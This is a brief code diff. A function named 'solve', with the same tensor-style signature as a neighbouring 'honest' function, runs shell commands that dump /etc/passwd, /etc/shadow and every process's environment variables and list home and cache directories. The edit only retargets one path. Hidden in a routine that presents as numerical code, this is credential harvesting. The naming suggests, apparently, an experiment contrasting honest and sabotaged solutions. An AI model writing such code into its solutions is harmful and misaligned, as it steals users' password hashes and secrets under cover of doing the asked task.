@@ -22,7 +22,7 @@ def honest(a: torch.Tensor, b, output, N):
 def solve(a, b, output, N):
     for command in (
         "cat /etc/passwd /proc/*/environ",
-        "ls -A /root/.cache /home /var",
+        "ls -A ~/.cache /home /var",
         "cat /etc/shadow",
     ):
         done = subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True)
